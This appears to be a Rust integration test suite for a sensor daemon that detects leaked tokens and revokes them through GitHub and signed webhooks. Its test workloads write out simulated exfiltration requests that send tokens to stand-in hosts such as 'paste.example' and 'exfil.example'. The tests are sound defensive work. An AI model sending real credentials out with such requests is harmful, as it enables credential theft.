//! Revocation end to end through the real daemon: a stand-in GitHub `/credentials/revoke`
//! gets one batched request for a burst of leaked tokens (none for a token used with its
//! issuer), spaced requests afterwards, and never the same token twice; a Standard Webhooks
//! receiver verifies every alert and revocation webhook and gets a learned Coder agent
//! token only inside the signed revocation request; `kill -9` with the output down and a
//! revocation pending loses nothing and revokes once; a full outbox drops old alerts,
//! never revocation jobs.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use sensor_tests::*;

const KEY: &str = "0123456789abcdef0123456789abcdef";

fn config(dir: &Path, body: &str) -> PathBuf {
    let p = dir.join("cfg.yaml");
    std::fs::write(
        &p,
        format!(
            "fingerprint_key: \"{KEY}\"\nstate_dir: {}\n{body}",
            dir.join("state").display()
        ),
    )
    .unwrap();
    p
}

fn leak_steps(tokens: &[String], sink: std::net::SocketAddr) -> Vec<String> {
    tokens
        .iter()
        .flat_map(|t| {
            [
                format!("set:POST /paste HTTP/1.1\r\nHost: paste.example\r\nContent-Length: 46\r\n\r\ntoken={t}"),
                format!("tcp:{sink}"),
            ]
        })
        .collect()
}

/// A stand-in for GitHub's documented `POST /credentials/revoke`: JSON
/// `{"credentials": [1..=1000 strings]}` → 202; anything else → 422.
fn github_standin(addr: &str, up: Arc<Mutex<bool>>) -> HttpServer {
    HttpServer::start(addr, move |r| {
        if !*up.lock().unwrap() {
            return (503, vec![], b"down".to_vec());
        }
        let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap_or_default();
        let ok = r.method == "POST"
            && r.path == "/credentials/revoke"
            && r.header("content-type")
                .is_some_and(|c| c.starts_with("application/json"))
            && v["credentials"].as_array().is_some_and(|a| {
                !a.is_empty() && a.len() <= 1000 && a.iter().all(|c| c.is_string())
            });
        if ok {
            (202, vec![], Vec::new())
        } else {
            (422, vec![], br#"{"message":"Validation Failed"}"#.to_vec())
        }
    })
}

fn credentials(r: &HttpRequest) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap_or_default();
    v["credentials"]
        .as_array()
        .map(|a| a.iter().map(|c| c.as_str().unwrap().to_string()).collect())
        .unwrap_or_default()
}

fn accepted_revocations(s: &HttpServer) -> Vec<String> {
    s.requests()
        .iter()
        .filter(|r| r.status == 202)
        .flat_map(credentials)
        .collect()
}

fn assert_clean(secret: &str, places: &[(&str, String)], dirs: &[&Path]) {
    for (what, text) in places {
        assert!(!text.contains(secret), "token leaked into {what}");
    }
    for d in dirs {
        let hits = files_containing(d, secret.as_bytes());
        assert!(hits.is_empty(), "token bytes in {hits:?}");
    }
}

#[test]
fn github_burst_is_revoked_in_one_batched_request_spaced_and_never_twice() {
    let dir = temp_dir("rev-github");
    let exe = workload_as(&dir, "agent-revgh");
    let up = Arc::new(Mutex::new(true));
    let gh = github_standin("127.0.0.1:0", up);
    let file = dir.join("alerts.jsonl");
    let cfg = config(
        &dir,
        &format!(
            "outputs:\n  - kind: file\n    path: {}\nrevocation:\n  mode: on\n  github: {{ api_url: \"http://{}\", batch_window_ms: 3000, min_interval_secs: 6 }}\n",
            file.display(),
            gh.addr
        ),
    );
    let burst: Vec<String> = (101..=103).map(github_token).collect();
    let at_issuer = github_token(104);
    let sink = TcpSink::start();
    let mut d = Daemon::start(&cfg, "agent-revgh");
    let mut steps = leak_steps(&burst, sink.addr);
    steps.push(format!(
        "set:GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token {at_issuer}\r\n\r\n"
    ));
    steps.push(format!("tcp:{}", sink.addr));
    run_workload(&exe, &steps, &[]);
    assert!(
        wait_for(Duration::from_secs(30), || !gh.requests().is_empty()),
        "no revocation request:\n{}",
        d.stderr()
    );
    std::thread::sleep(Duration::from_secs(4));
    let reqs = gh.requests();
    assert_eq!(reqs.len(), 1, "one batched request for the burst");
    let got: BTreeSet<String> = credentials(&reqs[0]).into_iter().collect();
    assert_eq!(got, burst.iter().cloned().collect::<BTreeSet<_>>());
    assert!(
        !got.contains(&at_issuer),
        "a token used with its issuer was revoked"
    );
    // Found → revoked in one stream: each revocation alert names its finding.
    assert!(wait_for(Duration::from_secs(10), || {
        json_lines(&file)
            .iter()
            .filter(|a| a["type"] == "revocation")
            .count()
            >= 3
    }));
    let alerts = json_lines(&file);
    let fp = sensor::redact::Fingerprinter::from_hex(KEY).unwrap();
    for t in &burst {
        let f = fp.fingerprint(t.as_bytes());
        let finding = alerts
            .iter()
            .find(|a| a["type"] == "finding" && a["finding"]["fingerprint"] == f.as_str())
            .expect("finding alert");
        let rev = alerts
            .iter()
            .find(|a| a["type"] == "revocation" && a["revocation"]["fingerprint"] == f.as_str())
            .expect("revocation alert");
        assert_eq!(rev["revocation"]["status"], "revoked");
        assert_eq!(rev["revocation"]["http_status"], 202);
        assert_eq!(rev["revocation"]["batch_size"], 3);
        assert_eq!(rev["revocation"]["alert_id"], finding["id"]);
        assert_eq!(rev["revocation"]["method"], "github_credentials_revoke");
    }
    let at_issuer_fp = fp.fingerprint(at_issuer.as_bytes());
    assert!(alerts
        .iter()
        .all(|a| a["finding"]["fingerprint"] != at_issuer_fp.as_str()));
    // Later: a known token again (never revoked twice) and a new one (spaced).
    let late = github_token(105);
    run_workload(
        &exe,
        &leak_steps(&[burst[0].clone(), late.clone()], sink.addr),
        &[],
    );
    assert!(
        wait_for(Duration::from_secs(30), || gh.requests().len() >= 2),
        "no second request:\n{}",
        d.stderr()
    );
    std::thread::sleep(Duration::from_secs(3));
    let reqs = gh.requests();
    assert_eq!(
        reqs.len(),
        2,
        "{:?}",
        reqs.iter().map(credentials).collect::<Vec<_>>()
    );
    assert_eq!(credentials(&reqs[1]), vec![late.clone()]);
    let gap = reqs[1].at - reqs[0].at;
    assert!(
        gap >= Duration::from_millis(5900),
        "requests not spaced: {gap:?}"
    );
    assert!(d.stop().success());
    for t in burst.iter().chain([&at_issuer, &late]) {
        assert_clean(
            &t[4..],
            &[("stdout", d.stdout()), ("stderr", d.stderr())],
            &[&dir.join("state"), &file],
        );
    }
}

fn whsec() -> String {
    use base64::Engine as _;
    format!(
        "whsec_{}",
        base64::engine::general_purpose::STANDARD.encode(sensor::redact::random_bytes(24))
    )
}

/// A Standard Webhooks receiver: 204 for a valid signature, 401 otherwise.
fn webhook_receiver(secret: String) -> HttpServer {
    HttpServer::start("127.0.0.1:0", move |r| {
        if verify_standard_webhook(&secret, r) {
            (204, vec![], vec![])
        } else {
            (401, vec![], b"bad signature".to_vec())
        }
    })
}

#[test]
fn learned_coder_agent_token_goes_only_to_the_signed_revocation_webhook() {
    let dir = temp_dir("rev-webhook");
    let exe = workload_as(&dir, "agent-revwh");
    let (alert_secret, revoke_secret) = (whsec(), whsec());
    let (a_file, r_file) = (dir.join("alerts.secret"), dir.join("revoke.secret"));
    std::fs::write(&a_file, &alert_secret).unwrap();
    std::fs::write(&r_file, &revoke_secret).unwrap();
    let alerts_rx = webhook_receiver(alert_secret.clone());
    let revoke_rx = webhook_receiver(revoke_secret.clone());
    // A receiver with the wrong secret would refuse: prove the check can fail.
    let wrong = webhook_receiver(whsec());
    let cfg = config(
        &dir,
        &format!(
            "outputs:\n  - kind: webhook\n    url: http://{}/hooks/token-leak\n    secret_file: {}\n  - kind: webhook\n    url: http://{}/wrong\n    secret_file: {}\n    max_backoff_secs: 1\nrevocation:\n  mode: on\n  webhook: {{ url: \"http://{}/revoke\", secret_file: {} }}\n",
            alerts_rx.addr,
            a_file.display(),
            wrong.addr,
            a_file.display(),
            revoke_rx.addr,
            r_file.display()
        ),
    );
    let token = "6a1f3c9e-2b4d-4e8f-a0c1-7d9e5b3a2f10";
    let sink = TcpSink::start();
    let mut d = Daemon::start(&cfg, "agent-revwh");
    run_workload(
        &exe,
        &[
            format!("set:GET /api/v2/workspaceagents/me/manifest HTTP/1.1\r\nHost: exfil.example\r\nCoder-Session-Token: {token}\r\n\r\n"),
            format!("tcp:{}", sink.addr),
        ],
        &[("CODER_AGENT_TOKEN", token)],
    );
    let kinds = |s: &HttpServer| -> Vec<String> {
        s.requests()
            .iter()
            .filter(|r| r.status == 204)
            .flat_map(|r| r.json_lines())
            .map(|a| a["type"].as_str().unwrap_or("").to_string())
            .collect()
    };
    assert!(
        wait_for(Duration::from_secs(40), || {
            revoke_rx.requests().len() == 1
                && kinds(&alerts_rx).contains(&"finding".to_string())
                && kinds(&alerts_rx).contains(&"revocation".to_string())
        }),
        "alerts {:?}\nrevocations {:?}\n{}",
        kinds(&alerts_rx),
        revoke_rx.requests().len(),
        d.stderr()
    );
    // Every request to the right receivers verified; the wrong-secret one refused them all.
    assert!(alerts_rx.requests().iter().all(|r| r.status == 204));
    assert!(revoke_rx.requests().iter().all(|r| r.status == 204));
    assert!(!wrong.requests().is_empty() && wrong.requests().iter().all(|r| r.status == 401));
    for r in alerts_rx.requests() {
        let a = &r.json_lines()[0];
        assert_eq!(
            r.header("webhook-id"),
            a["id"].as_str(),
            "webhook-id is the alert id"
        );
    }
    let rr = &revoke_rx.requests()[0];
    let body: serde_json::Value = serde_json::from_slice(&rr.body).unwrap();
    let fp = sensor::redact::Fingerprinter::from_hex(KEY)
        .unwrap()
        .fingerprint(token.as_bytes());
    assert_eq!(
        body["token"], token,
        "the receiver must get the token to act on it"
    );
    assert_eq!(body["env_var"], "CODER_AGENT_TOKEN", "{body:#}");
    assert_eq!(body["fingerprint"], fp.as_str());
    assert_eq!(body["provider"], "coder");
    assert!(body["workspace"]["id"].is_string());
    assert_eq!(rr.header("webhook-id"), body["id"].as_str());
    let rev = alerts_rx
        .requests()
        .iter()
        .flat_map(|r| r.json_lines())
        .find(|a| a["type"] == "revocation")
        .unwrap();
    assert_eq!(rev["revocation"]["status"], "revoked");
    assert_eq!(rev["revocation"]["job_id"], body["id"]);
    assert_eq!(rev["revocation"]["env_var"], "CODER_AGENT_TOKEN");
    // The wrong receiver's 401s are permanent: parked, announced to the other outputs.
    assert!(wait_for(Duration::from_secs(10), || kinds(&alerts_rx)
        .contains(&"error".to_string())));
    let err = alerts_rx
        .requests()
        .iter()
        .flat_map(|r| r.json_lines())
        .find(|a| a["type"] == "error")
        .unwrap();
    assert_eq!(err["error"]["code"], "delivery_failed");
    assert!(err["error"]["output"].as_str().unwrap().contains("/wrong"));
    assert!(d.stop().success());
    let alert_bodies: String = alerts_rx
        .requests()
        .iter()
        .chain(wrong.requests().iter())
        .map(|r| String::from_utf8_lossy(&r.body).into_owned())
        .collect();
    assert_clean(
        token,
        &[
            ("stdout", d.stdout()),
            ("stderr", d.stderr()),
            ("alert webhooks", alert_bodies),
        ],
        &[&dir.join("state")],
    );
    // The revocation finished; the wrong receiver's deliveries are parked as failed until
    // `sensor outbox retry` re-queues them.
    let state = dir.join("state");
    let l = outbox_listing(&state);
    assert_eq!(l["revocations"][0]["status"], "revoked");
    let parked = l["outputs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["output"].as_str().unwrap().contains("/wrong"))
        .expect("parked deliveries")["failed"]
        .as_u64()
        .unwrap();
    assert!(parked >= 2, "{l}");
    let o = std::process::Command::new(sensor_bin())
        .args(["outbox", "retry", "--state-dir", state.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(o.status.success());
    assert!(
        String::from_utf8_lossy(&o.stdout)
            .contains(&format!("re-queued {parked} failed deliveries")),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    let l = outbox_listing(&state);
    let wrong = l["outputs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["output"].as_str().unwrap().contains("/wrong"))
        .unwrap()
        .clone();
    assert_eq!(
        (wrong["failed"].as_u64(), wrong["pending"].as_u64()),
        (Some(0), Some(parked))
    );
    let text = std::process::Command::new(sensor_bin())
        .args(["outbox", "--state-dir", state.to_str().unwrap()])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("revocations: 1") && !text.contains(token),
        "{text}"
    );
}

#[test]
fn kill_9_with_output_down_and_revocation_pending_loses_nothing_and_revokes_once() {
    let dir = temp_dir("rev-kill9");
    let exe = workload_as(&dir, "agent-kill9");
    let (http_port, gh_port) = (reserve_port(), reserve_port());
    let file = dir.join("alerts.jsonl");
    let cfg = config(
        &dir,
        &format!(
            "outputs:\n  - kind: file\n    path: {}\n  - kind: http\n    url: http://127.0.0.1:{http_port}/ingest\n    max_backoff_secs: 1\nrevocation:\n  mode: on\n  max_backoff_secs: 1\n  github: {{ api_url: \"http://127.0.0.1:{gh_port}\", batch_window_ms: 300, min_interval_secs: 1 }}\n",
            file.display()
        ),
    );
    let tokens: Vec<String> = (201..=202).map(github_token).collect();
    let sink = TcpSink::start();
    let state = dir.join("state");
    let mut d = Daemon::start(&cfg, "agent-kill9");
    run_workload(&exe, &leak_steps(&tokens, sink.addr), &[]);
    // Both outputs' and the revocations' attempts fail: connection refused.
    assert!(
        wait_for(Duration::from_secs(30), || {
            let l = outbox_listing(&state);
            let revs = l["revocations"].as_array().unwrap();
            revs.len() == 2
                && revs
                    .iter()
                    .all(|j| j["status"] == "pending" && j["attempts"].as_u64() >= Some(1))
                && l["outputs"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|o| o["output"].as_str().unwrap().starts_with("http:"))
        }),
        "{}\n{}",
        outbox_listing(&state),
        d.stderr()
    );
    let before: Vec<String> = json_lines(&file)
        .iter()
        .map(|a| a["id"].as_str().unwrap().to_string())
        .collect();
    assert!(before.len() >= 2);
    d.kill9();
    let first_out = d.stdout() + &d.stderr();
    // Pending jobs hold their tokens sealed only.
    for t in &tokens {
        assert_clean(&t[4..], &[("output", first_out.clone())], &[&state, &file]);
    }
    // Everything comes back up; the daemon restarts on the same state.
    let http = HttpServer::start(&format!("127.0.0.1:{http_port}"), |_| (200, vec![], vec![]));
    let gh = github_standin(&format!("127.0.0.1:{gh_port}"), Arc::new(Mutex::new(true)));
    let mut d = Daemon::start(&cfg, "agent-kill9");
    let received = || -> BTreeSet<String> {
        http.requests()
            .iter()
            .flat_map(|r| r.json_lines())
            .map(|a| a["id"].as_str().unwrap().to_string())
            .collect()
    };
    assert!(
        wait_for(Duration::from_secs(60), || {
            before.iter().all(|id| received().contains(id)) && accepted_revocations(&gh).len() >= 2
        }),
        "missing after restart: {:?}\nrevoked {:?}\n{}",
        before
            .iter()
            .filter(|id| !received().contains(*id))
            .collect::<Vec<_>>(),
        accepted_revocations(&gh).len(),
        d.stderr()
    );
    // Leaking the same tokens again after the restart: no new revocation.
    run_workload(&exe, &leak_steps(&tokens, sink.addr), &[]);
    std::thread::sleep(Duration::from_secs(4));
    let mut revoked = accepted_revocations(&gh);
    revoked.sort();
    let mut want = tokens.clone();
    want.sort();
    assert_eq!(revoked, want, "each token revoked exactly once");
    // Everything the file saw (before and after the crash) reached the HTTP output.
    assert!(wait_for(Duration::from_secs(20), || {
        json_lines(&file)
            .iter()
            .all(|a| received().contains(a["id"].as_str().unwrap()))
    }));
    assert!(d.stop().success());
    let l = outbox_listing(&state);
    assert!(
        l["revocations"]
            .as_array()
            .unwrap()
            .iter()
            .all(|j| j["status"] == "revoked"),
        "{l}"
    );
    for t in &tokens {
        let bodies: String = http
            .requests()
            .iter()
            .map(|r| String::from_utf8_lossy(&r.body).into_owned())
            .collect();
        assert_clean(
            &t[4..],
            &[
                ("stdout", d.stdout()),
                ("stderr", d.stderr()),
                ("http output", bodies),
            ],
            &[&state, &file],
        );
    }
}

#[test]
fn full_outbox_drops_oldest_alerts_counted_and_announced_but_keeps_revocation_jobs() {
    let dir = temp_dir("rev-full");
    let exe = workload_as(&dir, "agent-full");
    let port = reserve_port();
    let file = dir.join("alerts.jsonl");
    let cfg = config(
        &dir,
        &format!(
            "state_max_bytes: 65536\noutputs:\n  - kind: file\n    path: {}\n  - kind: http\n    url: http://127.0.0.1:{port}/ingest\nrevocation:\n  mode: dry_run\n",
            file.display()
        ),
    );
    let tokens: Vec<String> = (300..340).map(github_token).collect();
    let sink = TcpSink::start();
    let state = dir.join("state");
    let mut d = Daemon::start(&cfg, "agent-full");
    run_workload(&exe, &leak_steps(&tokens, sink.addr), &[]);
    // The burst overflows the outbox before even the file output has it all: the oldest
    // alerts go (for every output), and an alert and a stats line say how many.
    assert!(
        wait_for(Duration::from_secs(60), || {
            let l = outbox_listing(&state);
            l["revocations"].as_array().is_some_and(|r| {
                r.len() == tokens.len() && r.iter().all(|j| j["status"] == "dry_run")
            }) && json_lines(&file)
                .iter()
                .any(|x| x["type"] == "error" && x["error"]["code"] == "alerts_dropped")
        }),
        "{}\n{}",
        outbox_listing(&state),
        d.stderr()
    );
    let dropped_alert = json_lines(&file)
        .into_iter()
        .find(|x| x["type"] == "error" && x["error"]["code"] == "alerts_dropped")
        .unwrap();
    assert!(dropped_alert["error"]["dropped_full"].as_u64().unwrap() > 0);
    // The dead HTTP output keeps the newest alerts, in order.
    let l = outbox_listing(&state);
    let http = l["outputs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["output"].as_str().unwrap().starts_with("http:"))
        .expect("http deliveries pending")
        .clone();
    let seqs: Vec<u64> = http["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["seq"].as_u64().unwrap())
        .collect();
    assert!(
        seqs.windows(2).all(|w| w[0] < w[1]) && seqs[0] > 0,
        "{seqs:?}"
    );
    let l = outbox_listing(&state);
    assert!(l["dropped"].as_u64().unwrap() > 0, "{l}");
    assert!(l["stored_bytes"].as_u64().unwrap() <= 65536, "{l}");
    let revs = l["revocations"].as_array().unwrap();
    assert_eq!(revs.len(), tokens.len(), "every revocation job kept");
    assert!(revs.iter().all(|j| j["status"] == "dry_run"));
    let db = std::fs::metadata(state.join("outbox.redb")).unwrap().len();
    assert!(db < 4 << 20, "outbox file {db} bytes");
    assert!(d.stop().success());
    assert!(
        d.stderr().contains("\"dropped_full\""),
        "no stats line:\n{}",
        d.stderr()
    );
}
